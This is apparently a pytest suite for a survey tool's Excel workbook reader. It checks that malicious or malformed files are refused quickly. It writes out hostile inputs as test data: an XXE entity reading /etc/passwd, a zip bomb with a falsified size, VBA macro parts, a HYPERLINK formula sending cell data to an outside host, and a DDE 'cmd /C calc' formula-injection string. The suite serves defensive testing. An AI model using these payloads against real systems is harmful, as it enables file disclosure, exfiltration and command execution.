"""Workbooks that were made to do harm, or that are simply something else: each is refused for one reason, and fast."""

import io
import re
import time
import zipfile

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from survey.problems import Refused
from survey.questionnaires import library, parsing
from survey.questionnaires.content import Content
from survey.questionnaires.files import formats, workbooks
from survey.web.sentences import SENTENCES
from tests import kitchen_sink
from tests.unit.questionnaires.files.forms import a_workbook, saved

GOOD = formats.write(parsing.parse(kitchen_sink.document()), "xlsx", version="1")
SMALL = a_workbook([("type", "name", "label"), ("text", "q1", "Ý kiến")])
SURVEY = "xl/worksheets/sheet1.xml"
DOCTYPE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'


def why(raw, name="phieu.xlsx"):
    with pytest.raises(Refused) as refused:
        formats.read(raw, name=name)
    [problem] = refused.value.problems
    assert problem.code in SENTENCES
    return problem.code, dict(problem.values)


def parts_of(raw):
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts, compression=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return file.getvalue()


def with_part(name, part, raw=SMALL):
    return packed({**parts_of(raw), name: part})


def with_survey(change, raw=SMALL):
    parts = parts_of(raw)
    return packed({**parts, SURVEY: change(parts[SURVEY])})


def cells(inner):
    return lambda part: re.sub(rb"<sheetData>.*</sheetData>", b"<sheetData>" + inner + b"</sheetData>", part)


def with_formula():
    book = openpyxl.load_workbook(io.BytesIO(SMALL))
    book["survey"]["C2"] = '=HYPERLINK("http://nguoi.la/?" & B2)'
    return saved(book)


def lying():
    """Say in the archive that a part which unpacks to 16 MB has 100 bytes."""
    size = 16 * 1024 * 1024
    raw = with_part("xl/media/anh.bin", b"\0" * size)
    return raw.replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))


@pytest.mark.parametrize(
    ("raw", "code", "values"),
    [
        (b"", "file.not_excel", {}),
        (b"type,name,label\ntext,q1,x", "file.not_excel", {}),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "file.old_excel", {}),
        (SMALL[:-30], "file.damaged", {}),
        (SMALL[:200], "file.damaged", {}),
        (b"PK\x03\x04" + b"\0" * (1024 * 1024), "file.too_large", {"most": 1}),
        (packed({"a.txt": b"a"}), "file.damaged", {}),
        (packed({f"{number}.xml": b"<a/>" for number in range(201)}), "file.too_many_parts", {"most": 200}),
        (lambda: with_part("xl/media/anh.bin", b"\0" * (11 * 1024 * 1024)), "file.too_large_unpacked", {"most": 10}),
        (lying, "file.damaged", {}),
        (with_part("xl/embeddings/b.xlsx", SMALL), "file.files_inside", {}),
        (with_part("xl/vbaProject.bin", b"\0"), "file.macros", {}),
        (with_part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"), "file.links", {}),
        (with_part("docProps/app.xml", DOCTYPE + b"<x>&y;</x>"), "file.entities", {}),
        (with_part("docProps/app.xml", (DOCTYPE + b"<x/>").decode().encode("utf-16")), "file.entities", {}),
        (with_survey(lambda part: DOCTYPE + part.split(b"?>")[-1]), "file.entities", {}),
        (with_survey(lambda part: part.replace(b"<", b"\xff<", 1)), "file.damaged", {}),
        (with_formula, "file.formula", {"sheet": "survey", "cell": "C2"}),
        (
            lambda: a_workbook([("type", "name", "label"), *[("text", f"q{number}", "x") for number in range(10_000)]]),
            "file.too_many_rows",
            {"sheet": "survey", "most": 5000},
        ),
        (
            a_workbook([["type", "name", *[f"cot{number}" for number in range(300)]], ["text", "q1"]]),
            "file.too_many_columns",
            {"sheet": "survey", "most": 200},
        ),
        (
            with_survey(cells(b'<row r="1"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')),
            "file.too_many_rows",
            {"sheet": "survey", "most": 5000},
        ),
        (with_survey(cells(b'<row r="1"><c r="ABCDEFGH1"><v>1</v></c></row>')), "file.damaged", {}),
        (with_survey(cells(b'<row r="1"><c r="A1" t="s"><v>-1</v></c></row>')), "file.damaged", {}),
        (with_survey(cells(b'<row r="1"><c r="A1" t="s"><v>99999</v></c></row>')), "file.damaged", {}),
        (with_survey(cells(b'<row r="0"><c><v>1</v></c></row>')), "file.damaged", {}),
        (
            with_survey(cells(b'<row><c t="inlineStr"><is><t>' + b"x" * 100_000 + b"</t></is></c></row>")),
            "file.long_cell",
            {"sheet": "survey", "cell": "A1", "most": 32767},
        ),
        (
            a_workbook([("type", "name", "label"), ("text", "q1", "x" * 2001)]),
            "xlsform.long_text",
            {"row": 2, "most": 2000},
        ),
        (a_workbook([("a", "b")]), "xlsform.wrong", {}),
        (a_workbook([], [("list_name", "name"), ("a", "b")], [("form_title",), ("x",)]), "xlsform.no_survey", {}),
        (a_workbook([("type", "name", "label", "label"), ("text", "q1", "x", "y")]), "xlsform.column_twice", None),
        (
            a_workbook([("type", "name", "label"), ("text", "tên", "x"), ("text", "2 3", "y")]),
            "xlsform.wrong_row",
            None,
        ),
        (a_workbook([("type", "name", "label"), ("select_one x", "q1", "x")]), "xlsform.wrong", {}),
        (a_workbook([("type", "name", "label"), ("begin_group", "q1", "x")]), "xlsform.wrong_row", {"row": 2}),
        (
            a_workbook([("type", "name", "label"), ("text", "q1", "x")], settings=[("ydan_format",), ("3",)]),
            "file.newer",
            {"wanted": 2},
        ),
    ],
)
def test_it_is_refused_for_one_reason(raw, code, values):
    raw = raw() if callable(raw) else raw
    began = time.perf_counter()
    refused, told = why(raw)
    assert time.perf_counter() - began < 3

    assert refused == code
    assert values is None or told == values


@pytest.mark.parametrize("name", ["phieu.xls", "phieu.xlsm", "phieu.csv", "phieu", "phieu.xlsx.exe", ""])
def test_another_ending_is_refused(name):
    assert why(SMALL, name)[0] in ("file.other_ending", "file.old_excel")


def test_what_a_sheet_says_of_its_size_is_not_believed():
    raw = with_survey(lambda part: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', part))

    assert [one.text["vi"] for one in formats.read(raw, name="a.xlsx")[0].questions] == ["Ý kiến"]


def test_very_many_empty_rows_that_are_only_coloured_are_no_rows():
    rows = b"".join(b'<row r="%d" s="1"><c r="A%d" s="1"/></row>' % (row, row) for row in range(10, 9000))
    raw = with_survey(lambda part: part.replace(b"</sheetData>", rows + b"</sheetData>"))

    assert len(formats.read(raw, name="a.xlsx")[0].questions) == 1


def test_words_that_begin_like_a_formula_stay_words():
    content = parsing.parse(kitchen_sink.document() | {"title": {"vi": "=cmd|' /C calc'!A0", "en": "+1", "tyz": "@a"}})
    raw = formats.write(content, "xlsx", version="1")

    assert b"<f>" not in b"".join(parts_of(raw).values())
    assert formats.read(raw, name="a.xlsx")[0] == content


def test_one_word_in_very_many_cells_is_not_too_much_for_the_machine():
    shared = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>%s</t></si></sst>'
    cell = b'<c t="s"><v>0</v></c>' * 150
    parts = parts_of(SMALL) | {"xl/sharedStrings.xml": shared % (b"x" * 30_000)}
    parts[SURVEY] = cells(b"<row>" + cell + b"</row>" + (b"<row>" + cell + b"</row>") * 900)(parts[SURVEY])

    assert why(packed(parts))[0] == "file.too_large_unpacked"


def reads_or_refuses(raw, name="phieu.xlsx"):
    problems = ()
    began = time.perf_counter()
    try:
        content, remarks = formats.read(raw, name=name)
    except Refused as refused:
        content, remarks, problems = None, (), refused.problems
    assert time.perf_counter() - began < 3
    assert isinstance(content, Content) or len(problems) == 1
    assert all(one.code in SENTENCES for one in (*problems, *remarks))


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=300), st.booleans())
def test_any_bytes_are_read_or_refused(raw, as_archive):
    reads_or_refuses(b"PK\x03\x04" + raw if as_archive else raw)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_mangled_file_is_read_or_refused(data):
    reads_or_refuses(mangled(GOOD, data))


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_a_file_with_a_mangled_part_is_read_or_refused(data):
    parts = parts_of(GOOD)
    name = data.draw(st.sampled_from([name for name in parts if "theme" not in name and "docProps" not in name]))
    reads_or_refuses(packed({**parts, name: mangled(parts[name], data)}))


def mangled(raw, data):
    raw = bytearray(raw)
    for _ in range(data.draw(st.integers(1, 5))):
        at = data.draw(st.integers(0, len(raw)))
        length = data.draw(st.sampled_from([1, 2, 7, 100]))
        raw[at : at + length] = data.draw(
            st.sampled_from([b"", b"\0", bytes(raw[:20]), b"<f>", b"&x;", b"_xD800_"]) | st.binary(max_size=9)
        )
    return bytes(raw)


PIECES = st.sampled_from(
    [
        *("select_one hl", "select_multiple hl", "text", "integer", "note", "begin_group", "end_group", "begin_repeat"),
        *("end_repeat", "calculate", "geopoint", "audit", "range", "osm x", "select_one_from_file a.csv", "rank hl"),
        *("q1", "q2", "meta", "${q1} = '1'", "selected(${q1}, 'a')", ". >= 1", "count-selected(.) < 0", "true()"),
        *("hl", "1", "a", "Hài lòng", "Không hài lòng", "${q9}", "x" * 300, "multiline", "likert table-list"),
        *("satisfied", "several", "reasons", "other", "title", "khl", "yes", "\t", "start=1 end=x", "ydan-3"),
    ]
)
NAMES = (
    *("type", "name", "label", "label::English (en)", "hint", "required", "relevant", "constraint", "appearance"),
    *("calculation", "parameters", "choice_filter", "media::audio", "ydan_key", "ydan_kind", "ydan_part"),
    *("ydan_overall", "default", "trigger", "disabled", "label::", "::", "bind::relevant", "label::a::b"),
)


@settings(max_examples=60, deadline=None)
@given(st.data())
def test_any_cells_are_read_or_refused(data):
    columns = data.draw(st.lists(st.sampled_from(NAMES[3:]), unique=True, max_size=6))
    cell = PIECES | st.none()
    kinds = st.sampled_from(["select_one hl", "text", "integer", "begin_group", "end_group", "select_multiple hl"])
    row = st.tuples(kinds | PIECES, st.sampled_from(["q1", "q2", "q3", "q4"]) | PIECES, *[cell for _ in range(7)])
    survey = data.draw(st.lists(row, min_size=1, max_size=6))
    choices = data.draw(st.lists(st.tuples(st.just("hl"), PIECES, cell, cell), max_size=4))
    setting = data.draw(st.tuples(cell, cell, cell))
    reads_or_refuses(
        a_workbook(
            [("type", "name", "label", *columns), *survey],
            [("list_name", "name", "label", "ydan_means"), *choices],
            [
                ("form_title", "default_language", data.draw(st.sampled_from(["ydan_format", "ydan_languages"]))),
                setting,
            ],
        )
    )


DEEP = [("begin_group", f"g{number}", "x") for number in range(2000)] + [("end_group",)] * 2000


@pytest.mark.parametrize(
    ("survey", "choices", "code"),
    [
        (DEEP, 1, "xlsform.wrong_row"),
        ([("text", f"q{number}", "x") for number in range(4900)], 1, "content.questions"),
        ([("select_one l", f"q{number}", "x") for number in range(4900)], 4900, None),
    ],
)
def test_very_much_of_anything_is_read_or_refused_fast(survey, choices, code):
    rows = [("l", f"c{number}", "x") for number in range(choices)]
    raw = a_workbook([("type", "name", "label"), *survey], [("list_name", "name", "label"), *rows])

    reads_or_refuses(raw)
    assert code is None or why(raw)[0] == code


def test_columns_are_counted_as_excel_does():
    assert [workbooks.column_name(column) for column in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


def test_a_library_form_is_far_below_the_limits():
    assert len(formats.write(library.get("xa-ntm-2021-2025"), "xlsx", version="1")) < 100_000
